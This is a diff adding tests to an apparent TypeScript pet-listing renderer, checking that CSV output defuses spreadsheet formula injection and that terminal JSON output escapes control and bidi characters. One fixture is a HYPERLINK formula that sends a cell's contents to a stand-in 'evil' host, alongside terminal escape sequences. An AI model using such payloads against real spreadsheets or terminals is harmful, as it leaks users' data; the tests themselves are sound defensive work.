@@ -217,4 +217,33 @@ describe('csv', () => {
   test('an empty list is just the header line', () => {
     expect(renderPets([], 'csv', PIPE)).toBe('id,name,categoryId,status\n');
   });
+
+  test("names a spreadsheet would take for formulas get a leading ', piped or not; negative ids and categories stay numbers", () => {
+    const list: Pet[] = [
+      { id: -2, name: '=HYPERLINK("http://evil/?x="&A1,"click")', categoryId: -3 },
+      { id: 3, name: '-2+3', categoryId: 1 },
+      { id: 4, name: '@SUM(1+1)', categoryId: 1 },
+      { id: 5, name: '\t=1', categoryId: 1 },
+    ];
+    const expected = `id,name,categoryId,status\n-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3,\n3,'-2+3,1,\n4,'@SUM(1+1),1,\n5,'\t=1,1,\n`;
+    expect(renderPets(list, 'csv', PIPE)).toBe(expected);
+    expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(expected);
+  });
+});
+
+describe('json and ndjson on a terminal', () => {
+  const pet: Pet = { id: 1, name: 'Rex\u009b2J\u202e\u001b\u007f', categoryId: 2 };
+
+  test('C1 and bidi controls are \\u escapes (JSON itself escapes C0): the same JSON value', () => {
+    for (const out of [renderPets([pet], 'json', TTY_COLOUR), renderPet(pet, 'json', TTY_COLOUR), renderPets([pet], 'ndjson', TTY_COLOUR)]) {
+      expect(out).toContain('"Rex\\u009b2J\\u202e\\u001b\\u007f"');
+      expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
+      expect(JSON.stringify(JSON.parse(out))).toContain(JSON.stringify(pet.name));
+    }
+  });
+
+  test('piped, the text is JSON.stringify\'s byte for byte', () => {
+    expect(renderPets([pet], 'ndjson', PIPE)).toBe(`${JSON.stringify(pet)}\n`);
+    expect(renderPet(pet, 'json', PIPE)).toBe(`${JSON.stringify(pet, null, 2)}\n`);
+  });
 });
